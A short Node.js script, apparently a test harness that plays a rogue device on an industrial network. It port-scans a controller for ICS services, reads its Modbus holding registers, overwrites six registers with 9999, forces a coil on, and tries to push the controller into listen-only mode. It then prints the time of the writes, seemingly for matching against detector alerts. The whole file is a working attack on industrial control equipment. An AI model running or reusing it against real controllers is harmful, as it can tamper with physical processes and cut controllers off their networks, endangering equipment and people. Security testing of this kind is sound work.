// A laptop that nobody knows: it looks for services of a controller, walks through its registers, and writes what the
// process runs by. argv: the controller. It says when it wrote, ms since 1970.
import { connect } from 'node:net'
import ModbusRTU from 'modbus-serial'

const target = process.argv[2]
const PORTS = [21, 22, 23, 25, 80, 102, 135, 139, 443, 445, 502, 1217, 2404, 3389, 4840, 5900, 8080, 20_000, 44_818]

const tried = port =>
  new Promise(resolve => {
    const socket = connect({ host: target, port, timeout: 300 })
    for (const event of ['connect', 'error', 'timeout']) socket.once(event, () => resolve(socket.destroy()))
  })

for (const port of PORTS) await tried(port)
const client = new ModbusRTU()
client.setTimeout(1000)
await client.connectTCP(target, { port: 502 })
client.setID(1)
for (let address = 0; address < 80; address++) await client.readHoldingRegisters(address, 1)
const began = Date.now()
await client.writeRegisters(0, [0, 0, 0, 0, 0, 9999])
await client.writeCoil(3, true)
// Force listen only mode (V1.1b3, 6.8): this controller refuses it.
await client.customFunction(8, [0, 4, 0, 0]).catch(() => {})
process.stdout.write(`${JSON.stringify({ wrote: began })}\n`)
client.close(() => process.exit(0))
